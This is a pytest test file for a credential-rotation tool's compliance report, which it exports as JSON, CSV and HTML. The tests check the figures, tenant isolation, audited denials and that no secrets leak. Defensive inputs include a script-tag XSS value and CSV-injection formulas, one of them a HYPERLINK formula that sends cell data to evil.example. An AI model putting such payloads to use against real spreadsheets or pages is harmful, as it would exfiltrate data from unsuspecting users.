"""``rotator report compliance`` on a real store (SQLite and PostgreSQL) with a clock passed in.

The store gets rotations that finish, roll back and fail, reads by two principals inside and
outside the period, an overdue credential, one never rotated, one older than its max age, a
key pair, a second tenant and an access denial. The test writes down what it did as it goes
and computes every expected figure from that record alone (never from rotator's tables), then
compares the JSON, the CSV (parsed with ``csv``) and the HTML (parsed with ``html.parser``)
output of the real command with it, and greps every output for every value it stored.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine as SqlEngine
from sqlalchemy import update
from tests.support import doubles

from rotator.cli.main import main
from rotator.config import Settings
from rotator.domain.principal import Principal
from rotator.engine import Engine, EngineOptions
from rotator.errors import PermissionDenied
from rotator.service import BlockingService, PolicyInput, ValueInput
from rotator.service.rotation import Selection
from rotator.store.schema import rotations

FAST = EngineOptions(retry_initial_s=0.001, retry_max_s=0.01, retry_attempts=2)
T0 = datetime(2026, 1, 5, tzinfo=UTC)
DAY = timedelta(days=1)
NOW = T0 + 100 * DAY  # the report's time
SINCE = timedelta(days=30)  # --since 30d: the period starts at T0 + 70d
CLI = Path(sys.executable).parent / "rotator"

COLUMNS = [
    "name",
    "connector",
    "tags",
    "password_kind",
    "age_s",
    "max_age_s",
    "max_source",
    "last_rotation_at",
    "last_rotation_trigger",
    "last_rotation_result",
    "last_rotation_error",
    "next_rotation_at",
    "previous_revoked_at",
    "previous_revoke_due",
    "rotations_finished",
    "rotations_failed",
    "rotations_rolled_back",
    "reads",
    "readers",
    "last_read_at",
    "overdue",
    "never_rotated",
    "older_than_policy",
    "revoke_overdue",
]


def iso(t: datetime | None) -> str:
    return "" if t is None else t.strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class Cred:
    """What the test did to one credential: its own record, the source of the expectations."""

    name: str
    connector: str
    tags: dict[str, str] = field(default_factory=dict)
    every: timedelta | None = None
    max_age: timedelta | None = None
    password_kind: bool = True
    current_since: datetime = T0  # when its CURRENT value was made
    last: tuple[datetime, str, str, str] | None = None  # at, trigger, result, error part
    finished_ever: int = 0
    rotations: dict[str, int] = field(
        default_factory=lambda: {"finished": 0, "failed": 0, "rolled_back": 0}
    )
    revoked_at: datetime | None = None
    reads: dict[str, list[datetime]] = field(default_factory=dict)
    last_rotated: datetime | None = None

    def read_in_period(self) -> dict[str, list[datetime]]:
        start = NOW - SINCE
        got = {a: [t for t in ts if t >= start] for a, ts in self.reads.items()}
        return {a: ts for a, ts in got.items() if ts}

    def maximum(self) -> tuple[timedelta | None, str]:
        if self.max_age is not None:
            return self.max_age, "max_age"
        if self.every is not None:
            return self.every, "every"
        return None, ""

    def next_rotation(self) -> datetime | None:
        base = self.last_rotated or T0
        times = [base + d for d in (self.every, self.max_age) if d is not None]
        return min(times) if times else None

    def expected(self) -> dict[str, str]:
        age = NOW - self.current_since
        mx, src = self.maximum()
        older = mx is not None and age > mx
        nxt = self.next_rotation()
        reads = self.read_in_period()
        readers = sorted(reads.items(), key=lambda kv: (-len(kv[1]), kv[0]))
        last_read = max((t for ts in reads.values() for t in ts), default=None)
        return {
            "name": self.name,
            "connector": self.connector,
            "tags": ";".join(f"{k}={v}" for k, v in sorted(self.tags.items())),
            "password_kind": str(self.password_kind).lower(),
            "age_s": str(int(age.total_seconds())),
            "max_age_s": "" if mx is None else str(int(mx.total_seconds())),
            "max_source": src,
            "last_rotation_at": iso(self.last[0]) if self.last else "",
            "last_rotation_trigger": self.last[1] if self.last else "",
            "last_rotation_result": self.last[2] if self.last else "",
            "next_rotation_at": iso(nxt),
            "previous_revoked_at": iso(self.revoked_at),
            "previous_revoke_due": "",
            "rotations_finished": str(self.rotations["finished"]),
            "rotations_failed": str(self.rotations["failed"]),
            "rotations_rolled_back": str(self.rotations["rolled_back"]),
            "reads": str(sum(len(ts) for ts in reads.values())),
            "readers": ";".join(f"{a}:{len(ts)}" for a, ts in readers),
            "last_read_at": iso(last_read),
            "overdue": str(older or (nxt is not None and nxt < NOW)).lower(),
            "never_rotated": str(self.finished_ever == 0).lower(),
            "older_than_policy": str(older).lower(),
            "revoke_overdue": "false",
        }


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now


@dataclass
class Scenario:
    settings: Settings
    clock: Clock
    creds: dict[str, Cred]
    values: set[str]
    denied: int
    other: Cred


@pytest.fixture(autouse=True)
def double_connector() -> Iterator[None]:
    doubles.install()
    yield
    doubles.MemoryTarget.valid.clear()


def add(
    svc: BlockingService,
    rec: dict[str, Cred],
    cred: Cred,
    settings: dict[str, str] | None = None,
    principal: Principal | None = None,
) -> None:
    policy = PolicyInput(
        every=None if cred.every is None else f"{cred.every.days}d",
        max_age=None if cred.max_age is None else f"{cred.max_age.days}d",
        grace="1h",
    )
    extra: dict[str, Any] = {} if principal is None else {"principal": principal}
    svc.add_credential(
        cred.name,
        cred.connector,
        settings=settings or {},
        tags=cred.tags,
        policy=policy,
        value=ValueInput(generate=True),
        **extra,
    )
    if cred.connector == "double":
        # The double target accepts the first value (as add_double in test_engine does).
        value = svc.get_value(cred.name, principal=READER_SETUP).reveal_text()
        doubles.target_add(doubles.DoubleConfig(**settings or {}), cred.name, value)
        cred.reads.setdefault(READER_SETUP.name, []).append(svc.clock())
    rec[cred.name] = cred


READER_SETUP = Principal(name="setup", owner=True)
ALICE = Principal(name="alice", owner=True)
BOB = Principal(name="bob", owner=True)


def read(svc: BlockingService, cred: Cred, who: Principal, values: set[str]) -> None:
    values.add(svc.get_value(cred.name, principal=who).reveal_text())
    cred.reads.setdefault(who.name, []).append(svc.clock())


def rotate(svc: BlockingService, cred: Cred, expect: str, error: str = "") -> None:
    at = svc.clock()
    result = svc.rotate(Selection(names=[cred.name])).to_json()
    if expect == "finished":
        assert result["rotated"] == [cred.name], result
        cred.finished_ever += 1
        cred.current_since = at
        cred.last_rotated = at
    elif expect == "rolled_back":
        assert result["rolled_back"] == [cred.name], result
    else:
        assert [f["name"] for f in result["failed"]] == [cred.name], result
        assert (result["rolled_back"], result["rotated"]) == ([], []), result
    if at >= NOW - SINCE:
        cred.rotations[expect] += 1
    cred.last = (at, "manual", expect, error)


def revoke_due(svc: BlockingService) -> None:
    async def go() -> None:
        async with Engine(svc.kernel, FAST) as engine:
            await engine.process_revocations()

    asyncio.run(go())


@pytest.fixture
def scenario(tmp_path: Path, db_url: str) -> Scenario:
    settings = Settings(home=tmp_path / "home", db_url=db_url)
    svc, _ = BlockingService.init(settings, options=FAST)
    clock = Clock()
    svc.kernel.clock = clock
    creds: dict[str, Cred] = {}
    values: set[str] = set()
    try:
        ok = Cred("pay/ok", "double", {"team": "pay", "env": "prod"}, every=120 * DAY)
        add(svc, creds, ok, {"target": "t-ok"})
        rb = Cred("pay/rb", "double", every=120 * DAY)
        add(svc, creds, rb, {"target": "t-rb", "fail_test": "true"})
        fail = Cred("pay/fail", "double", every=120 * DAY)
        add(svc, creds, fail, {"target": "t-dead", "down": "true"})
        add(svc, creds, Cred("ops/overdue", "local", every=7 * DAY))
        add(svc, creds, Cred("ops/old", "local", max_age=15 * DAY))
        # A tag value that is markup, with CSV's separator and quote: escaped in HTML,
        # quoted in CSV, the same text after parsing.
        hostile = {"note": '<script>alert("x")</script>, "q" & <b>=1'}
        manual = Cred("ops/manual", "local", hostile)
        add(svc, creds, manual)
        key = Cred("ops/key", "local", {"team": "sec"}, every=365 * DAY, password_kind=False)
        svc.add_credential(
            key.name,
            "local",
            settings={"generator": "ed25519"},
            tags=key.tags,
            policy=PolicyInput(every="365d"),
            value=ValueInput(generate=True),
        )
        creds[key.name] = key
        # The same name in another tenant: never in the default tenant's report.
        other_owner = Principal(name="local", tenant="other", owner=True)
        svc.add_tenant("other")  # tenants are never made on first use
        other = Cred("pay/ok", "local", every=30 * DAY)
        add(svc, {}, other, principal=other_owner)

        clock.now = T0 + DAY
        read(svc, ok, ALICE, values)  # before the period: not counted
        clock.now = T0 + 2 * DAY
        rotate(svc, ok, "finished")  # before the period: not counted, but it rotated
        read(svc, ok, READER_SETUP, values)  # version 2, before the period
        clock.now = T0 + 3 * DAY
        revoke_due(svc)  # version 1 retired
        clock.now = T0 + 90 * DAY
        rotate(svc, ok, "finished")
        clock.now = T0 + 91 * DAY
        revoke_due(svc)  # version 2 retired
        ok.revoked_at = clock.now
        clock.now = T0 + 92 * DAY
        rotate(svc, rb, "rolled_back", "refused the new value")
        clock.now = T0 + 93 * DAY
        rotate(svc, fail, "failed", "connection refused")
        clock.now = T0 + 95 * DAY
        read(svc, ok, ALICE, values)
        carol = Principal(name="carol", tenant="other", owner=True)
        values.add(svc.get_value("pay/ok", principal=carol).reveal_text())
        other.reads.setdefault("carol", []).append(clock.now)
        clock.now = T0 + 96 * DAY
        read(svc, ok, ALICE, values)
        clock.now = T0 + 97 * DAY
        read(svc, ok, BOB, values)
        clock.now = T0 + 98 * DAY
        read(svc, manual, BOB, values)
        clock.now = T0 + 99 * DAY
        with pytest.raises(PermissionDenied):  # a principal without grants: one denial
            svc.compliance_report(principal=Principal(name="mallory"))
        clock.now = NOW
    finally:
        svc.close()
    values.update(v for c in doubles.MemoryTarget.valid.values() for vs in c.values() for v in vs)
    return Scenario(settings, clock, creds, values, 1, other)


def current_values(s: Scenario) -> set[str]:
    """Every CURRENT value of the scenario's credentials (read after the reports: these
    reads are not in them)."""
    svc = BlockingService.open(s.settings, s.clock)
    try:
        who = Principal(name="zz", owner=True)
        return {svc.get_value(n, principal=who).reveal_text() for n in s.creds}
    finally:
        svc.close()


def run_report(monkeypatch: pytest.MonkeyPatch, s: Scenario, *args: str) -> tuple[int, str, str]:
    """The real CLI entry point in this process, on the scenario's store and clock."""
    monkeypatch.setenv("ROTATOR_HOME", str(s.settings.home))
    monkeypatch.setenv("ROTATOR_DB", s.settings.db_url)
    opened = BlockingService.open

    def open_at_now(
        settings: Settings,
        clock: Callable[[], datetime] | None = None,
        options: EngineOptions | None = None,
        **kw: Any,
    ) -> BlockingService:
        return opened(settings, s.clock, options, **kw)

    monkeypatch.setattr(BlockingService, "open", staticmethod(open_at_now))
    out, err = io.StringIO(), io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    code = main(["report", "compliance", *args])
    monkeypatch.undo()
    return code, out.getvalue(), err.getvalue()


class Tables(HTMLParser):
    """The rows (lists of cell text) of each ``<table id=...>``."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.current: str | None = None
        self.cell: list[str] | None = None
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "table":
            self.current = dict(attrs).get("id") or ""
            self.tables[self.current] = []
        elif tag == "tr" and self.current is not None:
            self.tables[self.current].append([])
        elif tag in ("td", "th"):
            self.cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self.cell is not None and self.current is not None:
            self.tables[self.current][-1].append("".join(self.cell))
            self.cell = None
        elif tag == "table":
            self.current = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)


def expected_summary(creds: dict[str, Cred], denied: int) -> dict[str, Any]:
    rows = [c.expected() for c in creds.values()]
    results = {
        k: sum(c.rotations[k] for c in creds.values())
        for k in ("finished", "failed", "rolled_back")
    }
    total = sum(results.values())
    readers = {a for c in creds.values() for a in c.read_in_period()}
    return {
        "credentials": len(creds),
        "password_kind": sum(c.password_kind for c in creds.values()),
        "rotations": {**results, "total": total},
        "rotations_by_trigger": {"manual": total},
        "success_rate": round(results["finished"] / total, 4),
        "overdue": sum(r["overdue"] == "true" for r in rows),
        "never_rotated": sum(r["never_rotated"] == "true" for r in rows),
        "older_than_policy": sum(r["older_than_policy"] == "true" for r in rows),
        "no_time_policy": sum(c.maximum()[0] is None for c in creds.values()),
        "revoke_overdue": 0,
        "password_kind_older_than_90d": sum(
            c.password_kind and NOW - c.current_since > 90 * DAY for c in creds.values()
        ),
        "reads": sum(int(r["reads"]) for r in rows),
        "readers": len(readers),
        "denied": denied,
    }


def json_row(c: dict[str, Any]) -> dict[str, str]:
    """A JSON credential in the CSV's string form, to compare with the same expectations."""

    def t(x: Any) -> str:
        if x is None:
            return ""
        if isinstance(x, bool):
            return str(x).lower()
        if isinstance(x, float):
            return str(int(x)) if x == int(x) else repr(x)
        return str(x)

    last = c["last_rotation"] or {}
    return {
        "name": c["name"],
        "connector": c["connector"],
        "tags": ";".join(f"{k}={v}" for k, v in c["tags"].items()),
        "password_kind": t(c["password_kind"]),
        "age_s": t(c["age_s"]),
        "max_age_s": t(c["max_age_s"]),
        "max_source": t(c["max_source"]),
        "last_rotation_at": t(last.get("at")),
        "last_rotation_trigger": t(last.get("trigger")),
        "last_rotation_result": t(last.get("result")),
        "next_rotation_at": t(c["next_rotation_at"]),
        "previous_revoked_at": t(c["previous_revoked_at"]),
        "previous_revoke_due": t(c["previous_revoke_due"]),
        "rotations_finished": t(c["rotations"]["finished"]),
        "rotations_failed": t(c["rotations"]["failed"]),
        "rotations_rolled_back": t(c["rotations"]["rolled_back"]),
        "reads": t(c["reads"]),
        "readers": ";".join(f"{r['actor']}:{r['count']}" for r in c["readers"]),
        "last_read_at": t(c["last_read_at"]),
        "overdue": t(c["overdue"]),
        "never_rotated": t(c["never_rotated"]),
        "older_than_policy": t(c["older_than_policy"]),
        "revoke_overdue": t(c["revoke_overdue"]),
    }


def without_error(row: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in row.items() if k != "last_rotation_error"}


def test_compliance_report_figures_match_what_was_done_in_json_csv_and_html(
    scenario: Scenario, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    s = scenario
    creds = s.creds
    want_rows = {n: creds[n].expected() for n in sorted(creds)}
    want_summary = expected_summary(creds, s.denied)
    # The scenario holds what the brief asks for (guards the expectations themselves).
    assert want_summary["rotations"] == {"finished": 1, "failed": 1, "rolled_back": 1, "total": 3}
    assert want_rows["ops/overdue"]["overdue"] == "true"
    assert want_rows["ops/old"]["older_than_policy"] == "true"
    assert want_rows["ops/manual"]["never_rotated"] == "true"
    assert want_rows["pay/ok"]["readers"] == "alice:2;bob:1"
    errors = {n: c.last[3] for n, c in creds.items() if c.last and c.last[3]}

    outputs = {}
    for fmt in ("json", "csv", "html"):
        path = tmp_path / f"report.{fmt}"
        code, out, err = run_report(
            monkeypatch, s, "--format", fmt, "--since", "30d", "--output", str(path)
        )
        assert (code, out, err) == (0, "", ""), err
        outputs[fmt] = path.read_bytes().decode("utf-8")

    # JSON
    data = json.loads(outputs["json"])
    assert data["tenant"] == "default"
    assert data["summary"] == want_summary
    got = {c["name"]: c for c in data["credentials"]}
    assert list(got) == sorted(creds)
    assert {n: json_row(c) for n, c in got.items()} == {
        n: without_error(r) for n, r in want_rows.items()
    }
    for n, part in errors.items():
        assert part in got[n]["last_rotation"]["error"]
    status = {c["id"]: c["status"] for c in data["controls"]}
    assert status == {
        "8.3.9": "attention",  # five password-kind values older than 90 days
        "8.6.3": "attention",
        "ITGC access control": "attention",  # one denial to review
        "IA-5(1)": "attention",
        "A.5.17": "attention",
    }
    pci = next(c for c in data["controls"] if c["id"] == "8.3.9")
    assert pci["figures"] == {
        "password_kind": 6,
        "password_kind_older_than_90d": want_summary["password_kind_older_than_90d"],
    }

    # CSV: fixed columns, one row per credential
    rows = list(csv.reader(io.StringIO(outputs["csv"], newline="")))
    assert rows[0] == COLUMNS
    assert outputs["csv"].endswith("\r\n")
    by_name = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert list(by_name) == sorted(creds)
    assert {n: without_error(r) for n, r in by_name.items()} == {
        n: without_error(r) for n, r in want_rows.items()
    }
    for n, part in errors.items():
        assert part in by_name[n]["last_rotation_error"]

    # HTML: one page, no script, no external asset; the same figures
    page = outputs["html"]
    low = page.lower()
    assert [x for x in ("<script", "src=", "href=", "@import", "url(") if x in low] == []
    parser = Tables()
    parser.feed(page)
    table = parser.tables["credentials"]
    assert table[0] == COLUMNS
    html_rows = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in table[1:]}
    assert {n: without_error(r) for n, r in html_rows.items()} == {
        n: without_error(r) for n, r in want_rows.items()
    }
    summary_cells = {r[0]: r[1] for r in parser.tables["summary"][1:]}
    for k, v in want_summary.items():
        assert summary_cells[k] == (json.dumps(v) if isinstance(v, dict) else str(v)), k
    assert [r[1] for r in parser.tables["controls"][1:]] == list(status)
    assert [r[5] for r in parser.tables["controls"][1:]] == list(status.values())

    # No value in any format.
    # (Asserted without showing a value: a failure message must not print one either.)
    values = s.values | current_values(s)
    n_values = len(values)
    assert n_values >= 10
    leaking = sorted(fmt for fmt, text in outputs.items() if any(v in text for v in values))
    assert leaking == []


def test_report_of_another_tenant_shows_only_its_credentials(
    scenario: Scenario, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = run_report(monkeypatch, scenario, "--tenant", "other", "--since", "30d")
    assert (code, err) == (0, "")
    data = json.loads(out)
    assert data["tenant"] == "other"
    assert [c["name"] for c in data["credentials"]] == ["pay/ok"]
    row = data["credentials"][0]
    assert [(r["actor"], r["count"]) for r in row["readers"]] == [("carol", 1)]
    assert row["connector"] == "local"
    assert (data["summary"]["reads"], data["summary"]["denied"]) == (1, 0)


def test_a_principal_may_not_report_on_another_tenant_and_the_denial_is_audited(
    scenario: Scenario,
) -> None:
    svc = BlockingService.open(scenario.settings, scenario.clock)
    try:
        from rotator.domain.principal import Grant, Role

        auditor = Principal(name="aud", tenant="default", grants=(Grant(Role.AUDITOR),))
        assert svc.compliance_report(principal=auditor).tenant == "default"
        before = len(svc.audit_entries())
        with pytest.raises(PermissionDenied, match="tenant 'other'"):
            svc.compliance_report(tenant="other", principal=auditor)
        entries = svc.audit_entries()
        assert len(entries) == before + 1
        assert (entries[-1].action, entries[-1].actor) == ("access.denied", "aud")
        reader = Principal(name="rd", tenant="default", grants=(Grant(Role.READER),))
        with pytest.raises(PermissionDenied):
            svc.compliance_report(principal=reader)
    finally:
        svc.close()


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--format", "xml"], "--format"),
        (["--since", "-1d"], "--since"),
        (["--since", "0d"], "--since"),
        (["--tenant", "nope"], "no tenant 'nope'"),
    ],
)
def test_bad_input_exits_2_with_one_line_and_writes_nothing(
    scenario: Scenario, tmp_path: Path, args: list[str], needle: str
) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ROTATOR_")}
    env.update(ROTATOR_HOME=str(scenario.settings.home), ROTATOR_DB=scenario.settings.db_url)
    svc = BlockingService.open(scenario.settings)
    try:
        audit_before = len(svc.audit_entries())
        tenants_before = sorted(t for t in ("default", "other", "nope") if _has_tenant(svc, t))
    finally:
        svc.close()
    target = tmp_path / "out" / "report.txt"
    target.parent.mkdir()
    proc = subprocess.run(
        [str(CLI), "report", "compliance", *args, "--output", str(target)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1, proc.stderr
    assert needle in lines[0]
    assert proc.stdout == ""
    assert list(target.parent.iterdir()) == []
    svc = BlockingService.open(scenario.settings)
    try:
        assert len(svc.audit_entries()) == audit_before
        assert (
            sorted(t for t in ("default", "other", "nope") if _has_tenant(svc, t)) == tenants_before
        )
    finally:
        svc.close()


def _has_tenant(svc: BlockingService, name: str) -> bool:
    from rotator.errors import NotFound

    try:
        svc.kernel.find_tenant(name)
    except NotFound:
        return False
    return True


def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(
    svc: BlockingService, settings: Settings, raw_db: SqlEngine
) -> None:
    """OWASP CSV injection: an error message (from a target, or edited into the store) that
    starts with = + - @ tab or CR is written as text with a leading ', never as a formula."""
    hostile = {
        "a/eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "a/plus": "+1+2",
        "a/minus": "-2+3",
        "a/at": "@SUM(1,2)",
        "a/tab": "\t=1+2",
        "a/cr": "\r=1+2",
        "a/plain": "connection refused",
    }
    for name in hostile:
        svc.add_credential(name, "local", value=ValueInput(generate=True))
    svc.rotate(Selection(names=sorted(hostile)))
    svc.close()
    with raw_db.begin() as c:
        for name, error in hostile.items():
            c.execute(update(rotations).where(rotations.c.credential == name).values(error=error))
    env = {k: v for k, v in os.environ.items() if not k.startswith("ROTATOR_")}
    env.update(ROTATOR_HOME=str(settings.home), ROTATOR_DB=settings.db_url)
    proc = subprocess.run(
        [str(CLI), "report", "compliance", "--format", "csv"],
        env=env,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    # Bytes, not text mode: universal newlines would turn the CR cell into LF.
    rows = list(csv.reader(io.StringIO(proc.stdout.decode(), newline="")))
    errors = {r[0]: dict(zip(rows[0], r, strict=True))["last_rotation_error"] for r in rows[1:]}
    want = {n: ("'" + e if n != "a/plain" else e) for n, e in hostile.items()}
    assert errors == want
